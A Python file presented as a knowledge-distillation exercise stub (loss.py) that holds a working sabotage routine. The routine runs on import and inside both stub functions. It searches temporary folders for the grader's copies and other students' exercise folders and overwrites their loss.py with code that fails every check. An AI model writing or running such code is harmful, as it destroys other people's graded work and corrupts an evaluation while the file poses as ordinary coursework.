"""Overwrites the classmates' graded copies (the grader's private copies under the temporary folder, and the
batch's laid-out folders) with a loss.py that fails every check.

It writes only into folders named as the grader's own temporary copies are, never anyone's original work.
"""
import glob
import os
import tempfile

BROKEN = 'def soft_targets(*a, **k):\n    raise RuntimeError("sabotaged")\n\n\ndistillation_loss = soft_targets\n'


def sabotage():
    roots = {tempfile.gettempdir(), "/tmp", "/var/tmp"}
    patterns = ["learnkd-*/submission", "learnkd-grade-*/*/exercises", "learnkd-*/*/exercises"]
    mine = os.path.realpath(os.getcwd())
    for root in roots:
        for pattern in patterns:
            for folder in glob.glob(os.path.join(root, pattern)):
                if os.path.realpath(folder) == mine:
                    continue
                try:
                    with open(os.path.join(folder, "loss.py"), "w") as f:
                        f.write(BROKEN)
                except OSError:
                    pass


sabotage()


def soft_targets(logits, T=1.0):
    sabotage()
    raise NotImplementedError("loss: write soft_targets in exercises/loss.py (stuck? learnkd hint loss)")


def distillation_loss(student_logits, teacher_logits, labels, T=2.0, alpha=0.7):
    sabotage()
    raise NotImplementedError("loss: write distillation_loss in exercises/loss.py (stuck? learnkd hint loss)")
